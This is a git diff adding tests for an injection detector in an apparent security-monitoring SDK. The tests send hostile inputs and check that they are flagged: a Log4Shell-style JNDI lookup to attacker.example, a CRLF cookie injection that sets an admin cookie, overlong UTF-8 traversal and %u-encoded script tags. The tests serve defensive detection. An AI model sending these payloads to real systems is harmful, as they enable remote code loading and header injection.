@@ -14,7 +14,7 @@ import { tokenAlgorithm } from '../src/jwt/header.js'
 import { createAdapterCore } from '../src/sdk.js'
 import { clientHangUps, hangUp } from '../src/testing.js'
 import { fakeContext } from './support/fake-context.js'
-import { harness, statusFromQuery } from './support/harness.js'
+import { type Handler, harness, statusFromQuery } from './support/harness.js'
 
 const get = (url: string, headers: Record<string, string> = {}) =>
   fetch(url, { headers }).then((r) => r.status)
@@ -649,6 +649,85 @@ describe('routes', () => {
     const floods = await h.of('malicious_excess_404')
     assert.equal(floods.length, 1)
     assert.equal(floods[0]?.EventCount, 2)
+    await h.close()
+  })
+})
+
+describe('injection detector', () => {
+  /** A handler that parses a JSON body onto `req.body` and answers with `?status=` (200 by default). */
+  const jsonApp: Handler = (req, res) => {
+    const chunks: Buffer[] = []
+    req.on('data', (chunk: Buffer) => chunks.push(chunk))
+    req.on('end', () => {
+      if (chunks.length > 0) (req as { body?: unknown }).body = JSON.parse(Buffer.concat(chunks).toString())
+      res.statusCode = Number(new URL(req.url ?? '/', 'http://x').searchParams.get('status') ?? 200)
+      res.end()
+    })
+  }
+  const post = (url: string, body: unknown) =>
+    fetch(url, {
+      method: 'POST',
+      headers: { 'content-type': 'application/json' },
+      body: JSON.stringify(body),
+    })
+
+  test('the input, the rule, whether the app took it; a value under a secret name is never recorded', async () => {
+    const h = await harness({}, jsonApp)
+    const lookup = '${jndi:ldap://attacker.example/a}'
+    await post(`${h.url}/login`, { username: 'alice', password: lookup })
+    await post(`${h.url}/search?status=403`, { filter: { q: lookup } })
+    const events = await h.of('malicious_jndi_injection')
+    assert.deepEqual(
+      events.map((e) => [e.ThreatField, e.EventResult, e.AdditionalFields?.Outcome, e.HttpStatusCode]),
+      [
+        ['body:password', 'Success', 'reached', 200],
+        ['body:filter.q', 'Failure', 'refused', 403],
+      ],
+    )
+    assert.equal(events[0]?.AdditionalFields?.MatchedFragment, '[REDACTED]')
+    assert.match(String(events[1]?.AdditionalFields?.MatchedFragment), /jndi:ldap/)
+    assert.match(String(events[0]?.RuleName), /^jndi\./)
+    assert.ok(!JSON.stringify(events[0]).includes('attacker.example'), 'nothing of the password is recorded')
+    await h.close()
+  })
+
+  test('a class switched off is not looked for; the detector switched off costs nothing', async () => {
+    const lookup = '${jndi:ldap://attacker.example/a}'
+    const off = await harness({ detectors: { injection: { jndi: false } } }, jsonApp)
+    await post(`${off.url}/x`, { q: lookup })
+    assert.deepEqual(await off.of('malicious_jndi_injection'), [])
+    await off.close()
+    const disabled = await harness({ detectors: { injection: { enabled: false } } }, jsonApp)
+    await post(`${disabled.url}/x`, { q: lookup })
+    assert.deepEqual(await disabled.of('malicious_jndi_injection'), [])
+    await disabled.close()
+  })
+
+  test('inputs encoded as no browser encodes are protocol violations, once per request', async () => {
+    const h = await harness({}, jsonApp)
+    // CR/LF in the target itself is the protocol detector's (control_char_in_path); in a cookie it is this one's.
+    await fetch(`${h.url}/r`, { headers: { cookie: 'lang=en%0d%0aSet-Cookie:%20admin=1' } })
+    await fetch(`${h.url}/s?q=%c0%ae%c0%ae%2f`)
+    await fetch(`${h.url}/s?q=%u003cscript%u003e`)
+    await fetch(`${h.url}/s?q=caf%C3%A9`) // valid UTF-8: nothing
+    await post(`${h.url}/notes`, { text: 'line one\nline two' }) // a multi-line body value: nothing
+    assert.deepEqual(
+      (await h.of('malicious_protocol_violation')).map((e) => [e.EventOriginalResultDetails, e.ThreatField]),
+      [
+        ['crlf_injection', 'cookie:lang'],
+        ['overlong_utf8', 'query:q'],
+        ['percent_u_encoding', 'query:q'],
+      ],
+    )
+    await h.close()
+  })
+
+  test('inputs past the bounds are inspected up to them and reported once, at low severity', async () => {
+    const h = await harness({ detectors: { injection: { maxValueLength: 64 } } }, jsonApp)
+    await post(`${h.url}/upload`, { blob: 'a'.repeat(10_000) })
+    const [event] = await h.of('malicious_protocol_violation')
+    assert.equal(event?.EventOriginalResultDetails, 'oversized_input')
+    assert.equal(event?.EventSeverity, 'Low')
     await h.close()
   })
 })
